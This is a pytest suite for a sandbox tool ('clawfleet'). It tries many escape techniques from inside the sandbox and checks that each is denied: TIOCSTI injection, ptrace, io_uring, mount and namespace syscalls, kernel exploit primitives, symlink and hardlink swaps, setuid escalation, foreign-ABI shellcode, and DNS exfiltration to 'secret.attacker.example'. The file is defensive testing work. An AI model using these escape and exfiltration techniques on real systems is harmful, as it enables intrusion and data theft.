"""The escape checklist (docs/escape-checklist.md), one test per row.

Each attack runs INSIDE the sandbox, as the sandbox user, through the real ``clawfleet sandbox run``, and
must fail with the specific errno/outcome; each is paired with an allowed action that must succeed, so a
test cannot pass because the snippet itself is broken. Rows about the egress gateway's L7 checks are
covered here only for the part the sandbox owns (no route out except the gateway's listener).
"""

from __future__ import annotations

import os
import platform
import shutil
import signal
import socket
import stat
import subprocess
import sys
import time
import uuid
from pathlib import Path

import pytest

pytestmark = pytest.mark.root

SIGSYS_EXIT = 128 + signal.SIGSYS


def test_tiocsti_and_tioclinux_denied_even_with_high_bits(sandbox):
    master, slave = os.openpty()
    try:
        r = sandbox.py(
            """
            import fcntl, struct, termios
            req = lambda n: libc.ioctl(0, ctypes.c_ulong(n), ctypes.c_char_p(b"x"))
            def io(n):
                ctypes.set_errno(0)
                return "ok" if req(n) != -1 else name(ctypes.get_errno())
            R["tiocsti"] = io(0x5412)
            R["tiocsti_high_bits"] = io(0x5412 | (1 << 32))  # CVE-2019-10063 spelling
            R["tioclinux"] = io(0x541C)
            R["tiocsetd"] = io(0x5423)
            R["isatty"] = os.isatty(0)
            R["winsize"] = tr(fcntl.ioctl, 0, termios.TIOCGWINSZ, struct.pack("HHHH", 0, 0, 0, 0))
            R["sid_is_self"] = os.getsid(0) == os.getpid()
            """,
            stdin=slave,
        )
    finally:
        os.close(master)
        os.close(slave)
    assert r["tiocsti"] == r["tiocsti_high_bits"] == r["tioclinux"] == r["tiocsetd"] == "EPERM"
    assert r["isatty"] and r["winsize"] == "ok"  # the terminal itself still works
    assert r["sid_is_self"]  # setsid: no controlling terminal shared with the parent shell


def test_ptrace_process_vm_and_pidfd_denied(sandbox):
    r = sandbox.py(
        """
        child = os.fork()
        if child == 0:
            import time; time.sleep(5); os._exit(0)
        R["ptrace_attach"] = sc("ptrace", 16, child, 0, 0)  # PTRACE_ATTACH
        R["ptrace_traceme"] = sc("ptrace", 0, 0, 0, 0)
        buf = ctypes.create_string_buffer(8)
        iov = (ctypes.c_void_p * 2)(ctypes.addressof(buf), 8)
        R["vm_readv"] = sc("process_vm_readv", child, ctypes.addressof(iov), 1, ctypes.addressof(iov), 1, 0)
        R["vm_writev"] = sc("process_vm_writev", child, ctypes.addressof(iov), 1, ctypes.addressof(iov), 1, 0)
        R["pidfd_open"] = sc("pidfd_open", child, 0)
        R["pidfd_getfd"] = sc("pidfd_getfd", 0, 0, 0)
        R["pidfd_send_signal"] = sc("pidfd_send_signal", 0, 9, 0, 0)
        os.kill(child, 9)
        R["waited"] = os.waitpid(child, 0)[0] == child  # allowed: signal and reap our own child
        """
    )
    for key in ("ptrace_attach", "ptrace_traceme", "vm_readv", "vm_writev", "pidfd_open", "pidfd_getfd",
                "pidfd_send_signal"):  # fmt: skip
        assert r[key] == "EPERM", key
    assert r["waited"]


def test_signals_cannot_reach_processes_outside(sandbox):
    victim = subprocess.Popen(["sleep", "30"])
    try:
        r = sandbox.py(
            f"""
            R["host_pid"] = tr(os.kill, {victim.pid}, 15)  # not in our PID namespace
            R["pid1"] = tr(os.kill, 1, 15)  # our init: root, outside the Landlock domain
            child = os.fork()
            if child == 0:
                import time; time.sleep(5); os._exit(0)
            R["own_child"] = tr(os.kill, child, 15)
            os.waitpid(child, 0)
            """
        )
        assert victim.poll() is None  # the outside process is alive
    finally:
        victim.kill()
        victim.wait()
    assert r["host_pid"] == "ESRCH"
    assert r["pid1"] == "EPERM"
    assert r["own_child"] == "ok"


def test_landlock_scopes_signals_to_the_sandbox(sandbox):
    """A process of the SAME uid inside the sandbox's PID namespace, but outside its Landlock domain (joined
    from the host with nsenter), cannot be signalled: only Landlock's signal scoping (ABI 6) stops it."""
    marker = f"/sandbox/go-{uuid.uuid4().hex[:6]}"
    code = f"""
import os, time, errno
while not os.path.exists({marker!r}) or not open({marker!r}).read():
    time.sleep(0.05)
intruder = int(open({marker!r}).read())
child = os.fork()
if child == 0:
    time.sleep(5); os._exit(0)
def kill(pid):
    try:
        os.kill(pid, 0); return "ok"
    except OSError as exc:
        return errno.errorcode[exc.errno]
print("intruder", kill(intruder), os.path.exists(f"/proc/{{intruder}}"))
print("own", kill(child))
os.kill(child, 9)
"""
    proc = subprocess.Popen(
        [sys.executable, "-m", "clawfleet.cli", "sandbox", "run", "--policy", str(sandbox.write_policy()),
         "--workdir", str(sandbox.workdir), "--", "/usr/bin/python3", "-I", "-c", code],
        stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
    )  # fmt: skip
    nsenter = None
    try:
        host_pid = _wait_for(lambda: _pgrep("-u", str(sandbox.user.pw_uid), "-f", marker))
        uid, gid = sandbox.user.pw_uid, sandbox.user.pw_gid
        nsenter = subprocess.Popen(["nsenter", "-t", str(host_pid), "-p", "-S", str(uid), "-G", str(gid), "--",
                                    "sleep", "30"])  # fmt: skip
        sleeper = _wait_for(lambda: _pgrep("-P", str(nsenter.pid)))
        with open(f"/proc/{sleeper}/status") as f:
            ns_pid = next(line.split()[-1] for line in f if line.startswith("NSpid:"))
        (sandbox.workdir / os.path.basename(marker)).write_text(ns_pid)
        stdout, stderr = proc.communicate(timeout=20)
    finally:
        proc.kill()
        if nsenter:
            nsenter.kill()
            nsenter.wait()
    assert proc.returncode == 0, stderr
    # Same uid and PID namespace: Landlock is the only barrier (it also hides it from /proc).
    assert "intruder EPERM False" in stdout
    assert "own ok" in stdout


def _pgrep(*args: str) -> int | None:
    out = subprocess.run(["pgrep", *args], capture_output=True, text=True).stdout.split()
    return int(out[0]) if out else None


def _wait_for(fn, timeout: float = 20):
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        value = fn()
        if value:
            return value
        time.sleep(0.05)
    raise AssertionError("timed out")


def test_io_uring_denied(sandbox):
    r = sandbox.py(
        """
        params = ctypes.create_string_buffer(120)
        R["setup"] = sc("io_uring_setup", 8, ctypes.addressof(params))
        R["enter"] = sc("io_uring_enter", 0, 1, 0, 0, 0, 0)
        R["register"] = sc("io_uring_register", 0, 0, 0, 0)
        R["read_allowed"] = len(open("/etc/hostname").read()) >= 0
        """
    )
    assert r["setup"] == r["enter"] == r["register"] == "EPERM"
    assert r["read_allowed"]


def test_host_pathname_sockets_are_not_visible(sandbox):
    # A host daemon's socket under /run and one under the host's /tmp, both listening.
    sockets = []
    paths = [f"/run/clawfleet-test-{uuid.uuid4().hex[:8]}.sock", f"/tmp/clawfleet-test-{uuid.uuid4().hex[:8]}.sock"]
    for path in paths:
        s = socket.socket(socket.AF_UNIX)
        s.bind(path)
        os.chmod(path, 0o777)
        s.listen()
        sockets.append(s)
    try:
        r = sandbox.py(
            f"""
            R["outside"] = {{}}
            for path in {paths!r} + ["/var/run/docker.sock", "/run/dbus/system_bus_socket", "/run/user/0/bus",
                                     "/run/containerd/containerd.sock", "/run/snapd.socket"]:
                s = socket.socket(socket.AF_UNIX)
                R["outside"][path] = tr(s.connect, path)
            srv = socket.socket(socket.AF_UNIX)
            srv.bind("/tmp/own.sock"); srv.listen()
            cli = socket.socket(socket.AF_UNIX)
            R["own"] = tr(cli.connect, "/tmp/own.sock")
            """
        )
    finally:
        for s, path in zip(sockets, paths, strict=True):
            s.close()
            os.unlink(path)
    assert set(r["outside"].values()) == {"ENOENT"}, r["outside"]
    assert r["own"] == "ok"


def test_abstract_sockets_of_the_host_are_unreachable(sandbox):
    name = f"\0clawfleet-test-{uuid.uuid4().hex}"
    host = socket.socket(socket.AF_UNIX)
    host.bind(name)
    host.listen()
    try:
        r = sandbox.py(
            f"""
            s = socket.socket(socket.AF_UNIX)
            R["host"] = tr(s.connect, {name!r})
            srv = socket.socket(socket.AF_UNIX)
            srv.bind("\\0inside"); srv.listen()
            R["own"] = tr(socket.socket(socket.AF_UNIX).connect, "\\0inside")
            """
        )
    finally:
        host.close()
    # Another network namespace: the name does not exist there. (Landlock's abstract-socket scoping,
    # the second layer, is tested on its own in test_launcher.py with a socket in the same netns.)
    assert r["host"] == "ECONNREFUSED"
    assert r["own"] == "ok"


def test_proc_of_other_processes_is_hidden(sandbox):
    r = sandbox.py(
        f"""
        R["supervisor_environ"] = tr(open, "/proc/{os.getpid()}/environ")
        R["pid1_environ"] = tr(open, "/proc/1/environ")
        R["pid1_root"] = tr(os.listdir, "/proc/1/root")
        R["pid1_fd"] = tr(os.listdir, "/proc/1/fd")
        R["pid1_mem"] = tr(open, "/proc/1/mem", "rb")
        R["pids"] = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
        R["self_environ"] = tr(open, "/proc/self/environ")
        """
    )
    assert r["supervisor_environ"] == "ENOENT"  # not in this PID namespace
    # PID 1 (root) is hidden by hidepid=2
    assert r["pid1_environ"] == r["pid1_root"] == r["pid1_fd"] == r["pid1_mem"] == "ENOENT"
    assert 1 not in r["pids"] and all(p < 100 for p in r["pids"])
    assert r["self_environ"] == "ok"


def _landlock_only_policy(sandbox):
    """/sandbox is mounted read-write but only /sandbox/rw is in the policy: Landlock is the only barrier."""
    work = sandbox.workdir
    (work / "rw").mkdir()
    (work / "protected.txt").write_text("secret")
    (work / "protected.txt").chmod(0o666)
    for p in (work / "rw", work / "protected.txt"):
        os.chown(p, sandbox.user.pw_uid, sandbox.user.pw_gid)
    return sandbox.write_policy(
        include_workdir=False,
        read_only=["/usr", "/lib", "/etc", "/proc"],
        read_write=["/sandbox/rw", "/tmp", "/dev/null"],
    )


def test_symlink_swap_and_creating_protected_paths(sandbox):
    policy = _landlock_only_policy(sandbox)
    r = sandbox.py(
        """
        os.symlink("/sandbox/protected.txt", "/sandbox/rw/link")
        R["write_via_symlink"] = tr(open, "/sandbox/rw/link", "w")
        R["read_via_symlink"] = tr(open, "/sandbox/rw/link")
        R["create_new"] = tr(open, "/sandbox/newfile", "w")
        R["mkdir_new"] = tr(os.mkdir, "/sandbox/newdir")
        os.symlink("/sandbox", "/sandbox/rw/dirlink")
        R["create_via_dirlink"] = tr(open, "/sandbox/rw/dirlink/evil", "w")
        R["write_allowed"] = tr(lambda: open("/sandbox/rw/ok.txt", "w").write("x"))
        """,
        policy=policy,
    )
    assert r["write_via_symlink"] == r["read_via_symlink"] == "EACCES"
    assert r["create_new"] == r["mkdir_new"] == r["create_via_dirlink"] == "EACCES"
    assert r["write_allowed"] == "ok"
    assert not (sandbox.workdir / "newfile").exists() and not (sandbox.workdir / "evil").exists()


def test_hardlink_or_rename_of_protected_file_into_writable_dir(sandbox):
    policy = _landlock_only_policy(sandbox)
    r = sandbox.py(
        """
        R["link"] = tr(os.link, "/sandbox/protected.txt", "/sandbox/rw/stolen")
        R["rename"] = tr(os.rename, "/sandbox/protected.txt", "/sandbox/rw/stolen")
        os.makedirs("/sandbox/rw/a"); os.makedirs("/sandbox/rw/b")
        open("/sandbox/rw/a/f", "w").close()
        R["rename_within_rw"] = tr(os.rename, "/sandbox/rw/a/f", "/sandbox/rw/b/f")
        R["link_within_rw"] = tr(os.link, "/sandbox/rw/b/f", "/sandbox/rw/a/g")
        """,
        policy=policy,
    )
    assert r["link"] == "EXDEV"  # Landlock REFER: same mount and DAC allows it, so only Landlock refuses
    assert r["rename"] == "EACCES"  # also needs REMOVE_FILE on /sandbox, which no rule grants
    assert r["rename_within_rw"] == r["link_within_rw"] == "ok"
    assert (sandbox.workdir / "protected.txt").read_text() == "secret"


def test_memfd_and_execveat_empty_path_denied(sandbox):
    r = sandbox.py(
        """
        R["memfd"] = sc("memfd_create", ctypes.c_char_p(b"x"), 0)
        fd = os.open("/usr/bin/true", os.O_RDONLY)
        argv = (ctypes.c_char_p * 2)(b"true", None)
        R["execveat"] = sc("execveat", fd, ctypes.c_char_p(b""), ctypes.addressof(argv), 0, 0x1000)
        import subprocess
        R["exec_allowed"] = subprocess.run(["/usr/bin/true"]).returncode
        """
    )
    assert r["memfd"] == "EPERM" and r["execveat"] == "EPERM"
    assert r["exec_allowed"] == 0


def test_dns_exfiltration_has_no_resolver(sandbox):
    r = sandbox.py(
        """
        try:
            socket.getaddrinfo("secret.attacker.example", 443)
            R["resolve"] = "ok"
        except socket.gaierror as exc:
            R["resolve"] = "gaierror"
        u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        R["udp53"] = tr(u.sendto, b"q", ("192.0.2.53", 53))  # TEST-NET-1: nothing routes there anyway
        R["localhost"] = socket.getaddrinfo("localhost", 80)[0][4][0]  # /etc/hosts still works
        """
    )
    assert r["resolve"] == "gaierror"
    assert r["udp53"] == "ENETUNREACH"
    assert r["localhost"] in ("127.0.0.1", "::1")


def test_ip_spellings_all_meet_no_route(sandbox):
    host = socket.socket()
    host.bind(("127.0.0.1", 0))
    host.listen()
    port = host.getsockname()[1]
    try:
        r = sandbox.py(
            f"""
            def conn(family, addr):
                s = socket.socket(family, socket.SOCK_STREAM)
                s.settimeout(2)
                return tr(s.connect, addr)
            R["decimal"] = conn(socket.AF_INET, ("3221225985", 443))  # 192.0.2.1
            R["octal"] = conn(socket.AF_INET, ("0300.0.2.1", 443))
            R["v6"] = conn(socket.AF_INET6, ("2001:db8::1", 443))
            R["v4mapped"] = conn(socket.AF_INET6, ("::ffff:192.0.2.1", 443))
            R["host_loopback"] = conn(socket.AF_INET, ("127.0.0.1", {port}))  # the host's listener
            srv = socket.socket(); srv.bind(("127.0.0.1", 0)); srv.listen()
            R["own_loopback_decimal"] = conn(socket.AF_INET, ("2130706433", srv.getsockname()[1]))
            """
        )
    finally:
        host.close()
    assert r["decimal"] == r["octal"] == "ENETUNREACH"
    assert r["v6"] == r["v4mapped"] == "ENETUNREACH"
    assert r["host_loopback"] == "ECONNREFUSED"  # loopback is the sandbox's own
    assert r["own_loopback_decimal"] == "ok"


def test_raw_packet_netlink_vsock_bluetooth_sockets_denied(sandbox):
    r = sandbox.py(
        """
        def sock(*a):
            try:
                socket.socket(*a).close(); return "ok"
            except OSError as exc:
                return name(exc.errno)
        R["packet"] = sock(17, socket.SOCK_RAW, 0)
        R["raw"] = sock(socket.AF_INET, socket.SOCK_RAW, 1)
        R["raw6_nonblock"] = sock(socket.AF_INET6, socket.SOCK_RAW | socket.SOCK_NONBLOCK, 58)
        R["netlink_audit"] = sock(16, socket.SOCK_RAW, 9)
        R["netlink_uevent"] = sock(16, socket.SOCK_DGRAM, 15)
        R["vsock"] = sock(40, socket.SOCK_STREAM, 0)
        R["bluetooth"] = sock(31, socket.SOCK_STREAM, 3)
        R["alg"] = sock(38, socket.SOCK_SEQPACKET, 0)
        R["packet_high_bits"] = sc("socket", 17 | (1 << 32), 3, 0)
        R["netlink_route"] = sock(16, socket.SOCK_RAW, 0)
        R["tcp"] = sock(socket.AF_INET, socket.SOCK_STREAM, 0)
        R["udp6"] = sock(socket.AF_INET6, socket.SOCK_DGRAM, 0)
        R["unix"] = sock(socket.AF_UNIX, socket.SOCK_STREAM, 0)
        """
    )
    for key in ("packet", "raw", "raw6_nonblock", "netlink_audit", "netlink_uevent", "vsock", "bluetooth",
                "alg", "packet_high_bits"):  # fmt: skip
        assert r[key] == "EPERM", key
    assert r["netlink_route"] == r["tcp"] == r["udp6"] == r["unix"] == "ok"


def test_namespace_creation_denied_and_clone3_enosys(sandbox):
    r = sandbox.py(
        """
        for flag, n in ((0x10000000, "user"), (0x00020000, "mnt"), (0x40000000, "net"), (0x20000000, "pid")):
            R["unshare_" + n] = sc("unshare", flag)
        R["unshare_user_high_bits"] = sc("unshare", 0x10000000 | (1 << 32))
        R["clone_newuser"] = sc("clone", 0x10000000 | 17, 0, 0, 0, 0)
        R["clone3"] = sc("clone3", 0, 0)
        pid = os.fork()  # plain clone
        if pid == 0:
            os._exit(7)
        R["fork"] = os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1])
        import threading
        t = threading.Thread(target=lambda: None); t.start(); t.join()  # glibc falls back from clone3
        R["thread"] = "ok"
        """
    )
    for key in ("unshare_user", "unshare_mnt", "unshare_net", "unshare_pid", "unshare_user_high_bits",
                "clone_newuser"):  # fmt: skip
        assert r[key] == "EPERM", key
    assert r["clone3"] == "ENOSYS"
    assert r["fork"] == 7 and r["thread"] == "ok"


def test_keyrings_denied(sandbox):
    r = sandbox.py(
        """
        R["keyctl"] = sc("keyctl", 0, -3, 0, 0, 0)  # KEYCTL_GET_KEYRING_ID session
        R["add_key"] = sc("add_key", ctypes.c_char_p(b"user"), ctypes.c_char_p(b"k"), ctypes.c_char_p(b"v"), 1, -3)
        R["request_key"] = sc("request_key", ctypes.c_char_p(b"user"), ctypes.c_char_p(b"k"), None, 0)
        R["getpid"] = sc("getpid")
        """
    )
    assert r["keyctl"] == r["add_key"] == r["request_key"] == "EPERM"
    assert r["getpid"] == "ok"


def test_kernel_exploit_primitives_denied(sandbox):
    r = sandbox.py(
        """
        for n in ("bpf", "perf_event_open", "userfaultfd", "kexec_load", "init_module", "finit_module",
                  "delete_module", "kexec_file_load"):
            R[n] = sc(n, 0, 0, 0, 0, 0)
        buf = ctypes.create_string_buffer(390 * 6)
        R["uname"] = sc("uname", ctypes.addressof(buf))
        """
    )
    for n in ("bpf", "perf_event_open", "userfaultfd", "kexec_load", "init_module", "finit_module",
              "delete_module", "kexec_file_load"):  # fmt: skip
        assert r[n] == "EPERM", n
    assert r["uname"] == "ok"


def test_mount_api_old_and_new_denied(sandbox):
    r = sandbox.py(
        """
        t = ctypes.c_char_p(b"/tmp")
        R["mount"] = sc("mount", ctypes.c_char_p(b"none"), t, ctypes.c_char_p(b"tmpfs"), 0, 0)
        R["umount2"] = sc("umount2", t, 0)
        R["fsopen"] = sc("fsopen", ctypes.c_char_p(b"tmpfs"), 0)
        R["fsconfig"] = sc("fsconfig", 0, 0, 0, 0, 0)
        R["fsmount"] = sc("fsmount", 0, 0, 0)
        R["fspick"] = sc("fspick", -100, t, 0)
        R["move_mount"] = sc("move_mount", -100, t, -100, t, 0)
        R["open_tree"] = sc("open_tree", -100, t, 1)
        R["mount_setattr"] = sc("mount_setattr", -100, t, 0, 0, 0)
        R["pivot_root"] = sc("pivot_root", t, t)
        R["setns"] = sc("setns", os.open("/proc/self/ns/net", os.O_RDONLY), 0)
        R["statvfs"] = tr(os.statvfs, "/sandbox")
        """
    )
    for n in ("mount", "umount2", "fsopen", "fsconfig", "fsmount", "fspick", "move_mount", "open_tree",
              "mount_setattr", "pivot_root", "setns"):  # fmt: skip
        assert r[n] == "EPERM", n
    assert r["statvfs"] == "ok"


def test_second_seccomp_filter_denied(sandbox):
    r = sandbox.py(
        """
        R["seccomp_filter"] = sc("seccomp", 1, 0, 0)  # SECCOMP_SET_MODE_FILTER
        R["prctl_set_seccomp"] = sc("prctl", 22, 2, 0, 0, 0)
        R["prctl_get_seccomp"] = libc.prctl(21, 0, 0, 0, 0)  # allowed: reads 2 (filter mode)
        action = ctypes.c_uint32(0x7FFF0000)
        R["get_action_avail"] = sc("seccomp", 2, 0, ctypes.addressof(action))  # allowed query
        """
    )
    assert r["seccomp_filter"] == r["prctl_set_seccomp"] == "EPERM"
    assert r["prctl_get_seccomp"] == 2 and r["get_action_avail"] == "ok"


@pytest.mark.skipif(platform.machine() != "x86_64", reason="i386/x32 ABIs exist only on x86_64 kernels")
@pytest.mark.parametrize(
    "abi,code",
    [
        # int 0x80 with eax=20 (i386 getpid): mov eax,20; int 0x80; ret
        ("i386", "b'\\xb8\\x14\\x00\\x00\\x00\\xcd\\x80\\xc3'"),
        # x32 getpid: syscall number 39 | 0x40000000
        ("x32", None),
    ],
)
def test_foreign_syscall_abis_kill_the_process(sandbox, abi, code):
    if abi == "i386":
        body = f"""
import mmap
m = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
m.write({code})
f = ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(m)))
print("native", os.getpid() > 0, flush=True)
f()
print("survived", flush=True)
"""
    else:
        body = """
print("native", os.getpid() > 0, flush=True)
libc.syscall(ctypes.c_long(0x40000000 | 39))
print("survived", flush=True)
"""
    proc = sandbox.run(["/usr/bin/python3", "-I", "-c", "import ctypes, os\nlibc = ctypes.CDLL(None)\n" + body])
    assert "native True" in proc.stdout  # the native ABI works up to the foreign call
    assert "survived" not in proc.stdout
    assert proc.returncode == SIGSYS_EXIT, proc.stderr


def test_proxy_env_bypass_has_no_route(sandbox):
    r = sandbox.py(
        """
        os.environ.pop("HTTPS_PROXY", None); os.environ.pop("https_proxy", None)
        s = socket.socket(); s.settimeout(2)
        R["direct"] = tr(s.connect, ("192.0.2.10", 443))
        R["routes"] = [line.split()[0] for line in open("/proc/net/route").read().splitlines()[1:]]
        R["ifaces"] = sorted(os.listdir("/sys/class/net")) if os.path.isdir("/sys/class/net") else None
        srv = socket.socket(); srv.bind(("127.0.0.1", 0)); srv.listen()
        R["loopback"] = tr(socket.create_connection, srv.getsockname(), 2)
        """
    )
    assert r["direct"] == "ENETUNREACH"
    assert r["routes"] == []  # no IPv4 route at all; loopback lives in the local table
    assert r["loopback"] == "ok"


def test_binary_identity_is_visible_to_the_gateway(sandbox):
    # The gateway (next issue) trusts /proc/<pid>/exe, never argv. Inside the sandbox the kernel's view
    # must not be disguised: a copied binary and an ld.so-launched binary both show their real exe.
    r = sandbox.py(
        """
        import shutil, subprocess
        shutil.copy("/usr/bin/sleep", "/tmp/curl")
        os.chmod("/tmp/curl", 0o755)
        p = subprocess.Popen(["/tmp/curl", "5"])
        import time; time.sleep(0.2)
        R["copied_exe"] = os.readlink(f"/proc/{p.pid}/exe")
        p.kill(); p.wait()
        R["self_exe"] = os.readlink("/proc/self/exe")
        """
    )
    assert r["copied_exe"] == "/tmp/curl"
    assert r["self_exe"].startswith("/usr/bin/python3")


def test_mptcp_denied(sandbox):
    r = sandbox.py(
        """
        R["mptcp"] = tr(socket.socket, socket.AF_INET, socket.SOCK_STREAM, 262)
        R["mptcp6"] = tr(socket.socket, socket.AF_INET6, socket.SOCK_STREAM, 262)
        R["mptcp_high_bits"] = sc("socket", 2, 1, 262 | (1 << 32))
        R["tcp"] = tr(socket.socket, socket.AF_INET, socket.SOCK_STREAM, 6)
        """
    )
    assert r["mptcp"] == r["mptcp6"] == r["mptcp_high_bits"] == "EPERM"
    assert r["tcp"] == "ok"


def test_inherited_fds_are_closed(sandbox):
    a, b = socket.socketpair()
    leaked = os.open("/etc/hostname", os.O_RDONLY)
    os.set_inheritable(leaked, True)
    try:
        r = sandbox.py(
            f"""
            R["fds"] = sorted(int(x) for x in os.listdir("/proc/self/fd"))
            R["leaked"] = tr(os.fstat, {leaked})
            R["socket"] = tr(os.fstat, {b.fileno()})
            print("stdout works"); sys.stderr.write("stderr works\\n")
            """,
            pass_fds=(leaked, b.fileno()),
        )
    finally:
        a.close()
        b.close()
        os.close(leaked)
    assert r["fds"][:3] == [0, 1, 2] and len(r["fds"]) == 4  # 0-2 plus the fd listing /proc/self/fd
    assert r["leaked"] == r["socket"] == "EBADF"


def test_setuid_binaries_do_not_gain_privilege(sandbox, request):
    # Outside /tmp: policy paths under /tmp name the sandbox's own /tmp, not the host's.
    suid_dir = Path(f"/var/tmp/clawfleet-test-{uuid.uuid4().hex[:8]}")
    suid_dir.mkdir(mode=0o755)
    request.addfinalizer(lambda: shutil.rmtree(suid_dir))
    shutil.copy("/usr/bin/id", suid_dir / "id")
    os.chmod(suid_dir / "id", 0o755 | stat.S_ISUID)  # setuid root
    policy = sandbox.write_policy(read_only=["/usr", "/lib", "/etc", "/proc", str(suid_dir)])
    r = sandbox.py(
        f"""
        import subprocess
        R["euid_via_suid"] = subprocess.run(["{suid_dir}/id", "-u"], capture_output=True, text=True).stdout.strip()
        R["setuid0"] = tr(os.setuid, 0)
        status = open("/proc/self/status").read().splitlines()
        R["caps"] = {{k: v.strip() for k, v in (l.split(":") for l in status) if k.startswith("Cap")}}
        R["nnp"] = [l.split()[1] for l in status if l.startswith("NoNewPrivs")][0]
        R["uid"] = os.getuid()
        """,
        policy=policy,
    )
    assert r["euid_via_suid"] == str(sandbox.user.pw_uid)  # ran (allowed), but without the setuid bit
    assert r["setuid0"] == "EPERM"
    assert set(r["caps"].values()) == {"0000000000000000"} and len(r["caps"]) == 5
    assert r["nnp"] == "1" and r["uid"] == sandbox.user.pw_uid


def test_credentials_do_not_enter_the_sandbox(sandbox):
    secret = "sk-ant-REAL-" + uuid.uuid4().hex
    env = {"ANTHROPIC_API_KEY": secret, "AWS_SECRET_ACCESS_KEY": secret, "GITHUB_TOKEN": secret, "LANG": "C.UTF-8"}
    r = sandbox.py(
        """
        R["env"] = dict(os.environ)
        R["cmdlines"] = [open(f"/proc/{p}/cmdline", "rb").read().decode(errors="replace")
                         for p in os.listdir("/proc") if p.isdigit()]
        """,
        env=env,
        extra=("--credential", "ANTHROPIC_API_KEY"),
    )
    assert secret not in repr(r)
    assert r["env"]["ANTHROPIC_API_KEY"] == "openshell:resolve:env:ANTHROPIC_API_KEY"
    assert "AWS_SECRET_ACCESS_KEY" not in r["env"] and "GITHUB_TOKEN" not in r["env"]
    assert r["env"]["LANG"] == "C.UTF-8"  # allowlisted
    assert all("clawfleet" not in c for c in r["cmdlines"])  # the supervisor's argv is not visible
    # A real value passed explicitly is refused before anything starts.
    proc = sandbox.run(["/bin/true"], extra=("--env", f"OPENAI_API_KEY={secret}"))
    assert proc.returncode == 125 and "credential" in proc.stderr and secret not in proc.stderr
